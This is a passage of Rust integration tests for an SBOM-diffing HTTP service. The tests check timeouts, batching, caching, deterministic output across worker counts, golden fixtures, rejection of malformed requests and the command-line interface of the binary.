    assert!(text.starts_with("HTTP/1.1 408 "), "{text}");
    assert!(
        handle.state().metrics.timeouts_phase(TimeoutPhase::Header) >= 1,
        "header-phase timeout must be counted"
    );
    // The metric is exposed with its phase label.
    let mut probe = connect(handle.addr());
    probe
        .write_all(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n")
        .unwrap();
    let (status, _, body) = read_framed(&mut probe);
    assert_eq!(status, 200);
    assert!(
        body.contains("sbomdiff_timeouts_total{phase=\"header\"}"),
        "{body}"
    );
    handle.shutdown();
}

#[test]
fn batch_endpoint_amortizes_many_requests_over_one_round_trip() {
    let mut handle = start(ServeConfig::default());
    let mut stream = connect(handle.addr());
    let batch = r#"{"requests":[
        {"path":"/v1/analyze","body":{"files":{"requirements.txt":"numpy==1.19.2\n"}}},
        {"path":"/v1/analyze","body":{"files":{"requirements.txt":"numpy==1.19.2\n"}}},
        {"path":"/v1/nope","body":{}}
    ]}"#;
    stream
        .write_all(post("/v1/batch", batch).as_bytes())
        .unwrap();
    let (status, _, body) = read_framed(&mut stream);
    assert_eq!(status, 200, "{body}");
    assert!(
        body.contains("\"count\": 3") || body.contains("\"count\":3"),
        "{body}"
    );
    // Identical sub-requests inside one batch share the response cache.
    assert!(handle.state().cache.hits() >= 1);
    handle.shutdown();
}

#[test]
fn responses_are_byte_identical_across_worker_counts() {
    // The full wire bytes (head + body) must match between a jobs=1 and a
    // jobs=4 server, for both cold and cached (keep-alive, preserialized)
    // responses: handlers are pure and responses carry no timestamps.
    let payloads = [
        (
            "/v1/analyze",
            r#"{"files":{"requirements.txt":"numpy==1.19.2\n"}}"#,
        ),
        // Repeat → the cached, preserialized zero-copy hit path.
        (
            "/v1/analyze",
            r#"{"files":{"requirements.txt":"numpy==1.19.2\n"}}"#,
        ),
        (
            "/v1/analyze",
            r#"{"files":{"package.json":"{\"dependencies\":{\"react\":\"17.0.2\"}}"}}"#,
        ),
    ];
    let collect = |jobs: usize| -> Vec<(u16, String, String)> {
        let mut handle = start(ServeConfig {
            jobs,
            ..ServeConfig::default()
        });
        let mut stream = connect(handle.addr());
        let mut responses = Vec::new();
        for (path, body) in &payloads {
            stream.write_all(post(path, body).as_bytes()).unwrap();
            responses.push(read_framed(&mut stream));
        }
        handle.shutdown();
        responses
    };
    let serial = collect(1);
    let parallel = collect(4);
    assert_eq!(serial, parallel);
    handle_statuses(&serial);
}

fn handle_statuses(responses: &[(u16, String, String)]) {
    for (status, _, body) in responses {
        assert!(*status < 500, "unexpected 5xx: {body}");
    }
}

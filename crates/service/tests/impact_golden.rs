//! Golden-fixture and determinism tests for batched `POST /v1/impact`.
//!
//! The handler is a pure function of its payload, so the response for a
//! pinned payload (the first `build_impact_payloads` batch at seed 77) is
//! pinned byte-for-byte against `tests/golden/impact_batched.json`. To
//! regenerate after an intentional behavior change:
//!
//! ```text
//! UPDATE_GOLDEN=1 cargo test -p sbomdiff-service --test impact_golden
//! ```

use std::path::{Path, PathBuf};

use sbomdiff_service::api::{handle, AppState};
use sbomdiff_service::http::Request;
use sbomdiff_service::loadgen::{self, build_impact_payloads, LoadgenConfig};

fn fixture_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name)
}

#[test]
fn batched_impact_response_matches_golden() {
    let payloads = build_impact_payloads(77, 1);
    let (path, body) = &payloads[0];
    let state = AppState::new(77, 64);
    let request = Request {
        method: "POST".into(),
        path: path.clone(),
        body: body.clone().into_bytes(),
    };
    let resp = handle(&state, &request, 0);
    assert_eq!(resp.status, 200, "{}", String::from_utf8_lossy(&resp.body));
    assert!(!resp.degraded, "no fault plan is installed");
    let actual = String::from_utf8(resp.body.clone()).expect("JSON response");

    let fixture = fixture_path("impact_batched.json");
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(fixture.parent().expect("parent")).expect("mkdir golden");
        std::fs::write(&fixture, &actual).expect("write fixture");
        return;
    }
    let expected = std::fs::read_to_string(&fixture).unwrap_or_else(|e| {
        panic!(
            "missing fixture {} ({e}); run UPDATE_GOLDEN=1 cargo test -p \
             sbomdiff-service --test impact_golden",
            fixture.display()
        )
    });
    assert_eq!(
        actual, expected,
        "batched /v1/impact drifted from tests/golden/impact_batched.json; \
         if the change is intentional, regenerate with UPDATE_GOLDEN=1"
    );
}

#[test]
fn batched_impact_digest_is_stable_across_jobs() {
    let base = LoadgenConfig {
        requests: 16,
        clients: 2,
        payloads: 3,
        jobs: 1,
        seed: 77,
        keep_alive: true,
        impact_only: true,
        out: None,
    };
    let a = loadgen::run(&base).expect("jobs=1 run");
    let b = loadgen::run(&LoadgenConfig { jobs: 4, ..base }).expect("jobs=4 run");
    assert_eq!(a.non_2xx() + b.non_2xx(), 0);
    assert_eq!(
        a.response_digest, b.response_digest,
        "batched impact responses must be byte-identical across worker counts"
    );
    assert_eq!(a.inconsistent_payloads + b.inconsistent_payloads, 0);
}

//! End-to-end tests: real sockets against an in-process server, plus the
//! `sbomdiff-serve` binary surface.

use std::process::Command;

use sbomdiff_service::loadgen::{build_payloads, http_request};
use sbomdiff_service::{ServeConfig, Server};
use sbomdiff_textformats::json;

fn start() -> sbomdiff_service::ServerHandle {
    Server::start(ServeConfig {
        jobs: 2,
        seed: 42,
        ..ServeConfig::default()
    })
    .expect("server starts")
}

#[test]
fn healthz_and_metrics_roundtrip() {
    let mut server = start();
    let (status, body) = http_request(server.addr(), "GET", "/healthz", "").unwrap();
    assert_eq!(status, 200);
    let doc = json::parse(&body).unwrap();
    assert_eq!(doc.pointer("/status").and_then(|v| v.as_str()), Some("ok"));

    let (status, text) = http_request(server.addr(), "GET", "/metrics", "").unwrap();
    assert_eq!(status, 200);
    assert!(text.contains("sbomdiff_requests_total{endpoint=\"healthz\"} 1"));
    assert!(text.contains("sbomdiff_cache_hit_ratio"));
    assert!(text.contains("sbomdiff_latency_seconds_bucket"));
    server.shutdown();
}

#[test]
fn analyze_diff_impact_pipeline_over_http() {
    let mut server = start();
    let addr = server.addr();

    // Analyze a small repo and ask for the serialized SBOMs back.
    let analyze_body = r#"{
        "name": "demo",
        "seed": 42,
        "include_sboms": true,
        "files": {
            "package.json": "{\"name\": \"demo\", \"version\": \"1.0.0\", \"dependencies\": {\"left-pad\": \"^1.3.0\"}}"
        }
    }"#;
    let (status, body) = http_request(addr, "POST", "/v1/analyze", analyze_body).unwrap();
    assert_eq!(status, 200, "{body}");
    let doc = json::parse(&body).unwrap();
    let tools = doc.get("tools").and_then(|v| v.as_array()).unwrap();
    assert_eq!(tools.len(), 4);
    let sboms = doc.get("sboms").and_then(|v| v.as_object()).unwrap();
    assert_eq!(sboms.len(), 4);

    // Feed two of the returned documents to /v1/diff.
    let a = sboms[0].1.as_str().unwrap();
    let b = sboms[1].1.as_str().unwrap();
    let mut diff_doc = sbomdiff_textformats::Value::object();
    diff_doc.set("a", sbomdiff_textformats::Value::from(a));
    diff_doc.set("b", sbomdiff_textformats::Value::from(b));
    let (status, body) =
        http_request(addr, "POST", "/v1/diff", &json::to_string(&diff_doc)).unwrap();
    assert_eq!(status, 200, "{body}");
    let report = json::parse(&body).unwrap();
    assert!(report.get("jaccard").is_some());

    // And one of them to /v1/impact.
    let mut impact_doc = sbomdiff_textformats::Value::object();
    impact_doc.set("sbom", sbomdiff_textformats::Value::from(a));
    impact_doc.set("vulnerable_share", sbomdiff_textformats::Value::from(0.5));
    let (status, body) =
        http_request(addr, "POST", "/v1/impact", &json::to_string(&impact_doc)).unwrap();
    assert_eq!(status, 200, "{body}");
    let report = json::parse(&body).unwrap();
    assert!(report.get("miss_rate").is_some(), "{body}");
    server.shutdown();
}

#[test]
fn malformed_bodies_answer_400_not_panic() {
    let mut server = start();
    let addr = server.addr();
    for (path, body) in [
        ("/v1/analyze", "{not json"),
        ("/v1/analyze", "[1,2,3]"),
        ("/v1/analyze", "{}"),
        ("/v1/diff", "{\"a\": \"junk\", \"b\": \"junk\"}"),
        ("/v1/impact", "{\"sbom\": 42}"),
        ("/v1/impact", "{}"),
    ] {
        let (status, response) = http_request(addr, "POST", path, body).unwrap();
        assert_eq!(status, 400, "{path} {body} -> {response}");
        let doc = json::parse(&response).expect("error body is JSON");
        assert!(doc.get("error").is_some());
    }
    // Server is still healthy afterwards.
    let (status, _) = http_request(addr, "GET", "/healthz", "").unwrap();
    assert_eq!(status, 200);
    server.shutdown();
}

#[test]
fn identical_payloads_are_cached_and_byte_identical() {
    let mut server = start();
    let addr = server.addr();
    let payloads = build_payloads(42, 3);
    let (path, body) = &payloads[0];
    let (s1, b1) = http_request(addr, "POST", path, body).unwrap();
    let (s2, b2) = http_request(addr, "POST", path, body).unwrap();
    assert_eq!((s1, s2), (200, 200));
    assert_eq!(b1, b2, "identical payloads must get byte-identical bodies");
    let (_, metrics) = http_request(addr, "GET", "/metrics", "").unwrap();
    assert!(
        metrics.contains("sbomdiff_cache_hits_total 1"),
        "expected one cache hit:\n{metrics}"
    );
    server.shutdown();
}

#[test]
fn binary_reports_version_and_help() {
    let exe = env!("CARGO_BIN_EXE_sbomdiff-serve");
    let out = Command::new(exe).arg("--version").output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.starts_with("sbomdiff-serve "), "{text}");

    let out = Command::new(exe).arg("--help").output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("loadgen"), "{text}");
    assert!(text.contains("/v1/analyze"), "{text}");

    let out = Command::new(exe).arg("frobnicate").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn binary_loadgen_smoke() {
    let exe = env!("CARGO_BIN_EXE_sbomdiff-serve");
    let out_path = std::env::temp_dir().join("sbomdiff_loadgen_smoke.json");
    let out = Command::new(exe)
        .args([
            "loadgen",
            "--requests",
            "24",
            "--clients",
            "3",
            "--payloads",
            "6",
            "--jobs",
            "2",
            "--seed",
            "7",
            "--out",
        ])
        .arg(&out_path)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "stdout:\n{stdout}\nstderr:\n{stderr}");
    assert!(stdout.contains("throughput"), "{stdout}");
    let bench = std::fs::read_to_string(&out_path).unwrap();
    let doc = json::parse(&bench).unwrap();
    assert_eq!(doc.pointer("/non_2xx").and_then(|v| v.as_i64()), Some(0));
    let _ = std::fs::remove_file(&out_path);
}
